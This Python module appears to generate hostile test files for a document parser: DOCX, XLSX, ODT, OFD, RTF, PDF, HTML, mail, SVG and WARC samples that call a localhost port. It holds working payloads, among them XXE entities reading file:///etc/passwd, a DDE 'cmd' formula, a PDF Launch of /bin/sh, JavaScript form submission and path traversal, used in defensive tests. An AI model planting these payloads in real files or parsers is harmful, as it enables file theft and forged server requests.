"""Files that call home: every reference a format knows, to a port of this machine that listens."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

from format_samples import odf, ofd, ofd_text, rtf_text, zipped
from hostile import sound
from hostile.bombs import workbook
from hostile.corpus import DAMAGED, IGNORED, READ, REFUSED, UNKNOWN, elsewhere, latin, of, word
from hostile.papers import page, said, stream

if TYPE_CHECKING:
    from collections.abc import Iterator

    from hostile.corpus import Sample

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def entities(url: str) -> Iterator[Sample]:
    """XML: external entities, DTDs, inclusion, style sheets."""
    heads = {
        "entity": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{url}/e">]>',
        "file": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        "parameter": f'<!DOCTYPE x [<!ENTITY % e SYSTEM "{url}/p"> %e;]>',
        "dtd": f'<!DOCTYPE x SYSTEM "{url}/d.dtd">',
        "public": f'<!DOCTYPE x PUBLIC "-//a//b" "{url}/d.dtd">',
    }
    for name, head in heads.items():
        root = f"{head}<w:document {_W}><w:body><w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:body></w:document>"
        yield of(f"{name}.docx", zipped({"word/document.xml": root}), REFUSED, DAMAGED)
        sheet = f'{head}<worksheet xmlns="{_S}"><sheetData><row><c t="inlineStr"><is><t>&e;</t></is></c></row></sheetData></worksheet>'
        yield of(f"{name}.xlsx", workbook(sheet=sheet), REFUSED, DAMAGED)
        yield of(f"{name}.ofd", zipped({"OFD.xml": f"{head}<a>&e;</a>"}), REFUSED, DAMAGED)
        content = {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": f"{head}<a>&e;</a>",
        }
        yield of(f"{name}.odt", zipped(content), REFUSED, DAMAGED)
        yield of(f"{name}.xml", f"<?xml version='1.0'?>{head}<a>&e;</a>".encode(), IGNORED, UNKNOWN)
        html = f"<?xml version='1.0'?>{head}<html><body><p>{word(name)}</p>&e;</body></html>"
        yield elsewhere(f"{name}.xhtml", html.encode(), word(name))
    include = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}/i" parse="text"/>'
    )
    text = f"<w:document {_W}><w:body><w:p><w:r><w:t>{word('include')}</w:t></w:r>{include}</w:p></w:body></w:document>"
    yield of("include.docx", zipped({"word/document.xml": text}), READ, "", word("include"))


def office(url: str) -> Iterator[Sample]:
    """Office files: templates, pictures, links, formulas, objects elsewhere."""
    kinds = (
        "attachedTemplate",
        "image",
        "hyperlink",
        "oleObject",
        "frame",
        "subDocument",
        "aFChunk",
        "settings",
        "styles",
        "numbering",
        "header",
    )
    told = "".join(
        f'<Relationship Id="r{n}" Type="{_KIND}/{k}" Target="{url}/{k}" TargetMode="External"/>'
        for n, k in enumerate(kinds)
    )
    inner = told.replace(' TargetMode="External"', "")
    body = f'<w:p><w:r><w:t>{word("office")}</w:t></w:r></w:p><w:altChunk r:id="r6"/><w:subDoc r:id="r5"/>'
    body += f'<w:p><w:r><w:instrText>INCLUDEPICTURE "{url}/f" \\d</w:instrText></w:r></w:p>'
    document = f"<w:document {_W} {_R}><w:body>{body}</w:body></w:document>"
    for name, listed in (("outer", told), ("inner", inner)):
        parts = {
            "word/document.xml": document,
            "word/_rels/document.xml.rels": f'<Relationships xmlns="{_RELATIONS}">{listed}</Relationships>',
        }
        yield of(f"relations-{name}.docx", zipped(parts), READ, "", word("office"))
    formulas = (
        f'WEBSERVICE("{url}/w")',
        f'IMAGE("{url}/i")',
        f'HYPERLINK("{url}/h")',
        f"'{url}/[x.xlsx]S'!A1",
        'cmd|"/c x"!A1',
        f'RTD("x","{url}","y")',
    )
    for n, formula in enumerate(formulas):
        quoted = formula.replace("&", "&amp;").replace("<", "&lt;")
        sheet = f'<worksheet xmlns="{_S}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>{word("formulas")}</t></is></c><c r="B1" t="str"><f>{quoted}</f><v>12</v></c></row></sheetData></worksheet>'
        yield of(f"formula-{n}.xlsx", workbook(sheet=sheet), READ, "", word("formulas"))
    link = f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="r1" Type="{_KIND}/externalLinkPath" Target="{url}/x.xlsx" TargetMode="External"/></Relationships>'
    more: dict[str, str | bytes] = {
        "xl/externalLinks/_rels/externalLink1.xml.rels": link,
        "xl/connections.xml": f'<connections xmlns="{_S}"><connection id="1"><webPr url="{url}/c"/></connection></connections>',
    }
    sheet = f'<worksheet xmlns="{_S}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>{word("external")}</t></is></c></row></sheetData></worksheet>'
    yield of("external.xlsx", workbook(sheet=sheet, **more), READ, "", word("external"))
    linked = f'<text:p>{word("odt call")}<draw:frame><draw:image xlink:href="{url}/i" xmlns:xlink="http://www.w3.org/1999/xlink"/><draw:object xlink:href="{url}/o" xmlns:xlink="http://www.w3.org/1999/xlink"/></draw:frame></text:p><text:section><text:section-source xlink:href="{url}/s" xmlns:xlink="http://www.w3.org/1999/xlink"/></text:section>'
    yield of("links.odt", odf("text", linked), READ, "", word("odt call"))
    cell = f'<table:table table:name="a"><table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;{url}&quot;)"><text:p>{word("ods call")}</text:p></table:table-cell></table:table-row></table:table>'
    yield of("links.ods", odf("spreadsheet", cell), READ, "", word("ods call"))
    action = f'<ofd:Actions><ofd:Action Event="CLICK"><ofd:URI URI="{url}/u"/></ofd:Action></ofd:Actions>'
    yield of(
        "links.ofd", ofd(ofd_text(20, 20, word("ofd call")) + action), READ, "", word("ofd call")
    )
    for name, path in (
        ("address", f"{url}/Content.xml"),
        ("outside", "../../../../etc/passwd"),
        ("absolute", "/etc/passwd"),
    ):
        packed = ofd(
            ofd_text(20, 20, word("x")),
            **{
                "Doc_0/Document.xml": f'<ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"><ofd:CommonData/><ofd:Pages><ofd:Page ID="1" BaseLoc="{path}"/></ofd:Pages></ofd:Document>'
            },
        )
        yield replace(elsewhere(f"path-{name}.ofd", packed), outcome=REFUSED, reason="PT323")
    fields = f'{{\\field{{\\*\\fldinst INCLUDEPICTURE "{url}/p" \\\\d}}{{\\fldrslt x}}}}{{\\*\\template {url}/t}}'
    objects = f"{{\\object\\objautlink\\objupdate{{\\*\\objdata {url.encode().hex()}}}}}"
    yield of(
        "links.rtf",
        f"{{\\rtf1\\ansi {rtf_text(word('rtf call'))}\\par {fields}{objects}}}".encode(),
        READ,
        "",
        word("rtf call"),
    )


def papers(url: str) -> Iterator[Sample]:
    """PDF: actions, forms, scripts, files elsewhere."""
    actions = {
        "uri": f"<</S/URI/URI({url}/u)>>",
        "launch": "<</S/Launch/F(/bin/sh)>>",
        "remote": f"<</S/GoToR/F({url}/g)/D[0/Fit]>>",
        "submit": f"<</S/SubmitForm/F<</FS/URL/F({url}/s)>>>>",
        "import": f"<</S/ImportData/F({url}/i)>>",
        "script": f"<</S/JavaScript/JS(app.launchURL\\('{url}/j'\\);this.submitForm\\('{url}'\\))>>",
    }
    for name, action in actions.items():
        data = page(stream(said(latin(name) + " and more words")), extra=f"/AA<</O {action}>>")
        data = data.replace(b"/Pages 2 0 R>>", f"/Pages 2 0 R/OpenAction {action}>>".encode(), 1)
        yield of(f"action-{name}.pdf", data, READ, "", latin(name))
    outside = f"/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray/F<</FS/URL/F({url}/x)>>/FFilter/DCTDecode"
    yield of(
        "stream-elsewhere.pdf",
        page(
            stream(said(latin("elsewhere") + " and more words") + b" /I Do"),
            stream(b"", outside),
            resources="/XObject<</I 6 0 R>>",
        ),
        READ,
        "",
        latin("elsewhere"),
    )
    contents = page("<</F(/etc/passwd)/Length 0>>stream\n\nendstream")
    yield elsewhere("contents-elsewhere.pdf", contents)
    xfa = f"/AcroForm<</Fields[]/XFA({url}/x)/NeedAppearances true>>"
    yield of(
        "xfa.pdf",
        page(stream(said(latin("xfa") + " and more words"))).replace(
            b"/Pages 2 0 R>>", f"/Pages 2 0 R{xfa}>>".encode(), 1
        ),
        READ,
        "",
        latin("xfa"),
    )


def pages(url: str) -> Iterator[Sample]:
    """HTML, mail and archives."""
    things = (
        f"<img src={url}/1>", f"<link rel=stylesheet href={url}/2>", f"<style>@import '{url}/3'</style>",
        f"<script src={url}/4></script>", f"<iframe src={url}/5></iframe>", f"<object data={url}/6></object>",
        f"<video poster={url}/7 src={url}/7></video>", f"<svg><image href={url}/8 /><use href={url}/8#a /></svg>",
        f"<div style='background:url({url}/9)'>", f"<base href={url}/><img src=10>", f"<meta http-equiv=refresh content='0;url={url}/11'>",
        f"<form action={url}/12><input autofocus onfocus=submit()></form>", "<iframe src=file:///etc/passwd></iframe>", "<img src=//127.0.0.1/x srcset='file:///etc/passwd 2x'>",
    )  # fmt: skip
    for n, thing in enumerate(things):
        yield of(
            f"call-{n}.html",
            f"<html><body>{thing}<p>{word('html call')}</p></body></html>".encode(),
            READ,
            "",
            word("html call"),
        )
    yield of(
        "all.html",
        f"<html><body>{''.join(things)}<p>{word('all calls')}</p></body></html>".encode(),
        READ,
        "",
        word("all calls"),
    )
    head = "From: a@example.org\nTo: b@example.org\nMIME-Version: 1.0\n"
    yield of(
        "remote.eml",
        f"{head}Subject: {latin('remote')}\nDisposition-Notification-To: a@127.0.0.1\nContent-Type: text/html\n\n<img src={url}/e>".encode(),
        READ,
        "",
        latin("remote"),
    )
    body = f"From: <Saved by Blink>\nMIME-Version: 1.0\nContent-Location: {url}/m\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\nContent-Location: {url}/n\n\n<base href={url}><p>{word('saved')}<img src=cid:x>\n--b--\n"
    yield of("remote.mhtml", body.encode(), READ, "", word("saved"))
    picture = f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{url}/s'/><script>fetch('{url}')</script></svg>"
    yield of("picture.svg", f"<?xml version='1.0'?>{picture}".encode(), IGNORED, UNKNOWN)
    yield of(
        "shortcut.url",
        f"[InternetShortcut]\nURL={url}/u\n{word('shortcut')}".encode(),
        READ,
        "",
        word("shortcut"),
    )
    warc = sound.as_warc(word("warc call")).replace(
        b"https://a.example/x.html", f"{url}/w".encode()
    )
    yield of("call.warc", warc, READ, "", word("warc call"))


def samples(port: int) -> Iterator[Sample]:
    """All of them, calling a port of this machine."""
    url = f"http://127.0.0.1:{port}"
    yield from entities(url)
    yield from office(url)
    yield from papers(url)
    yield from pages(url)
